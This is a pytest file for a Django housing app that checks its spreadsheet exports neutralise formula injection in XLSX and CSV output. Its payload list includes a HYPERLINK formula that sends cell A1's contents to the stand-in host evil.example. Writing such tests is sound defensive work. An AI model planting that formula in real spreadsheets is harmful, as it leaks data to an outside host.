"""Formula injection: text that starts like a formula stays text in every export."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from bodobolig.spreadsheets import append_xlsx_row, safe_cell
from tests.measures.coordinator_data import make_plan_with_measures

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Klikk")', "+47 123", "-2+3", "@SUM(A1)"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_safe_cell_makes_formula_like_text_plain(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Bolig Nu", "2.1.1", 42, -5, None])
def test_safe_cell_leaves_other_values_alone(value):
    assert safe_cell(value) == value


def test_an_xlsx_cell_keeps_the_text_and_has_no_formula():
    workbook = Workbook()
    append_xlsx_row(workbook.active, PAYLOADS)
    buffer = io.BytesIO()
    workbook.save(buffer)

    sheet_xml = zipfile.ZipFile(buffer).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    row = next(load_workbook(buffer).active.iter_rows(values_only=True))
    assert list(row) == PAYLOADS


@pytest.mark.django_db
def test_the_measure_exports_neutralise_a_formula_in_a_title(client):
    data = make_plan_with_measures(2)
    measure = data.plan.measures.order_by("code").first()
    measure.title = PAYLOADS[0]
    measure.save(update_fields=["title"])
    client.force_login(data.coordinator)
    query = f"?plan={data.plan.pk}"

    xlsx = client.get(reverse("measures:measure_export", args=["xlsx"]) + query).content
    csv_text = client.get(reverse("measures:measure_export", args=["csv"]) + query).content

    assert "<f>" not in zipfile.ZipFile(io.BytesIO(xlsx)).read("xl/worksheets/sheet1.xml").decode()
    titles = [row[1] for row in load_workbook(io.BytesIO(xlsx)).active.iter_rows(values_only=True)]
    assert PAYLOADS[0] in titles
    rows = list(csv.reader(io.StringIO(csv_text.decode("utf-8-sig")), delimiter=";"))
    assert "'" + PAYLOADS[0] in [row[1] for row in rows]
